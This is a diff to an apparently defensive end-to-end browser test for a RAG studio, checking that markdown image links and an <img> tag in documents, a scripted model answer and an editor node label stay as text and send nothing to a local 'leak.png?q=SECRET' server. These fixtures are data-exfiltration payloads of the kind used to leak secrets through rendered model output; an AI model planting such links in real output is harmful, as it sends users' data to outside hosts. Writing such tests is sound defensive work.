@@ -1,7 +1,8 @@
 """Untrusted text in a real Chromium: a document and a (scripted) model answer carry
 `![x](http://127.0.0.1:<port>/leak.png?q=SECRET)`. The run page (answer, cited passage), the
 replay page and the knowledge page's chunk list show it as text, and the small HTTP server this
-test runs on that port receives no request at all.
+test runs on that port receives no request at all. So does the editor's canvas, for a node label
+that is an <img> tag.
 
 The run is made in this process with flowkit.testing's FakeLLM and HashEmbedder (no model loads);
 the studio then only reads it from the shared data directory.
@@ -70,6 +71,12 @@ def studio(tmp_path_factory, leak_server):
     ingest(ws.resources, "leaky", [doc])
     run_id = ws.run(templates.load_template("naive_rag"), "Who kept the lighthouse?",
                     "leaky").run_id
+    # a flow whose node label is markup: the editor's canvas must draw it as text
+    tag = f'<img src="http://127.0.0.1:{port}/leak.png?q=CANVAS">'
+    spec = templates.load_template("naive_rag")
+    nodes = [n.model_copy(update={"label": f"{tag} {link}"}) if n.id == "generate" else n
+             for n in spec.nodes]
+    ws.store.save_flow(spec.model_copy(update={"name": "leaky_flow", "nodes": nodes}), None)
     del ws
     ART.mkdir(exist_ok=True)
     with StudioServer(home, log=ART / "e2e-inert-streamlit.log", timeout_s=120) as url:
@@ -111,5 +118,16 @@ def test_links_in_answers_and_passages_stay_text(studio, page, leak_server):
     page.screenshot(path=str(ART / "inert_replay_page.png"), full_page=True)
 
     assert page.locator(f"img[src*=':{port}/']").count() == 0
+
+    # the editor's canvas (its own frame): the label is shown as the characters it is made of
+    from e2ekit import canvas
+    page.goto(f"{url}/editor?flow=leaky_flow")
+    title = canvas(page).locator('.react-flow__node[data-id="generate"] strong')
+    expect(title).to_contain_text('<img src="http://127.0.0.1:')
+    expect(title).to_contain_text(link)
+    assert canvas(page).locator("img").count() == 0
+    page.wait_for_timeout(1500)
+    page.screenshot(path=str(ART / "inert_editor_canvas.png"))
+
     assert page.seen == []   # type: ignore[attr-defined]
     assert hits == [], f"the browser fetched {hits}"
